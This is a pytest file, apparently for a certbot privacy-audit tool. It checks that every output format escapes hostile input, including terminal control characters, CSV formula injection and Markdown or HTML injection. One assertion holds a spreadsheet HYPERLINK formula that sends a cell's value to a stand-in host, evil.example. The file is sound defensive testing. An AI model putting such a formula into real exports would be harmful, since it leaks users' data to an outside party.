"""Every output format over one hostile corpus: safe in a terminal, a spreadsheet, Markdown."""

import csv
import io
import json
from typing import Tuple

import pytest

from certbot_privacy._internal.audit import cli
from certbot_privacy._internal.rules.escape import FORMULA_START, escapes, is_printable, markdown
from tests.helpers.hostile import HOSTILE, hostile_fleet


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> Tuple[str, str]:
    """A fleet directory (hostile host name) and a journal (hostile _HOSTNAME values)."""
    hosts, journal = hostile_fleet(tmp_path_factory.mktemp("hostile"))
    return str(hosts), str(journal)


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    assert code in (0, 1) and err == "", err
    return out


REPORT = [("report", "--format", f) for f in ("table", "json", "csv", "markdown", "html")] + [
    ("report", "--by", "host", "--format", f) for f in ("table", "json", "csv", "markdown", "html")
]
VERIFY = [("verify", "--format", f) for f in ("text", "json")]
EXPORT = [
    ("export", "--art30", "--format", f, "--controller-name", HOSTILE[0])
    for f in ("json", "markdown", "html")
]
LETTERS = [
    ("export", kind, "--format", f, "--language", lang, "--requester", HOSTILE[8])
    for kind in ("--access-request", "--erasure-request")
    for f in ("text", "markdown")
    for lang in ("en", "zh_CN")
]
EVERY = REPORT + VERIFY + EXPORT + LETTERS


def _format(argv: Tuple[str, ...]) -> str:
    return argv[argv.index("--format") + 1]


@pytest.mark.parametrize("argv", EVERY, ids=" ".join)
def test_no_output_carries_a_character_that_acts_on_a_terminal(
    capsys: pytest.CaptureFixture[str], inputs: Tuple[str, str], argv: Tuple[str, ...]
) -> None:
    """C0/C1, bidi, zero-width, separators, DEL: none reaches the output in any format."""
    out = _run(capsys, *argv, *inputs)
    assert out.strip()
    for line in out.split("\n"):
        assert is_printable(line), repr([c for c in line if ord(c) in escapes()])


@pytest.mark.parametrize("argv", [a for a in EVERY if _format(a) == "json"], ids=" ".join)
def test_json_is_ascii_and_keeps_values_exact(
    capsys: pytest.CaptureFixture[str], inputs: Tuple[str, str], argv: Tuple[str, ...]
) -> None:
    """JSON output is ASCII only and reads back to the exact hostile values."""
    out = _run(capsys, *argv, *inputs)
    assert out.isascii() and "\x7f" not in out
    text = json.dumps(json.loads(out), ensure_ascii=False)
    for hostile in HOSTILE[:8]:
        assert json.dumps(hostile, ensure_ascii=False)[1:-1] in text


@pytest.mark.parametrize("argv", [a for a in EVERY if _format(a) == "csv"], ids=" ".join)
def test_no_csv_cell_starts_a_formula(
    capsys: pytest.CaptureFixture[str], inputs: Tuple[str, str], argv: Tuple[str, ...]
) -> None:
    """Every cell that would start a formula is prefixed with ' (OWASP)."""
    rows = list(csv.reader(io.StringIO(_run(capsys, *argv, *inputs))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert '\'=HYPERLINK("https://evil.example/?q="&A1,"Click")' in cells
    assert {"'+1+1", "'-2+3", "'@SUM(1,1)"} <= set(cells)


@pytest.mark.parametrize("argv", [a for a in EVERY if _format(a) == "markdown"], ids=" ".join)
def test_markdown_shows_hostile_values_escaped_never_raw(
    capsys: pytest.CaptureFixture[str], inputs: Tuple[str, str], argv: Tuple[str, ...]
) -> None:
    """Each hostile value appears only through the Markdown escaper (no raw link, HTML, entity)."""
    out = _run(capsys, *argv, *inputs)
    for hostile in HOSTILE[8:]:
        escaped = markdown(hostile)
        assert hostile not in out.replace(escaped, "")
    assert "<script>" not in out and "](https://evil" not in out and "&#x202e;" not in out


def test_the_markdown_escaper_leaves_nothing_to_interpret() -> None:
    """Every character CommonMark/GFM interprets, and every web-link trigger, is escaped."""
    assert markdown("&#x202e;") == "\\&\\#x202e;"
    assert markdown("https://a") == "https\\://a" and markdown("www.a") == "www\\.a"
    assert markdown("[x](y) <b> |c| *d* _e_ `f` ~g~ \\") == (
        "\\[x\\](y) \\<b\\> \\|c\\| \\*d\\* \\_e\\_ \\`f\\` \\~g\\~ \\\\"
    )
    assert markdown("# heading") == "\\# heading"


def test_the_markdown_escaper_leaves_plain_text_alone() -> None:
    """What Markdown would not misread stays as it is, so the document reads as text:
    addresses, snake_case names, an & inside a sentence."""
    for text in ("privacy@example.com", "mailto:dpo@example.com", "account_key", "a & b"):
        assert markdown(text) == text
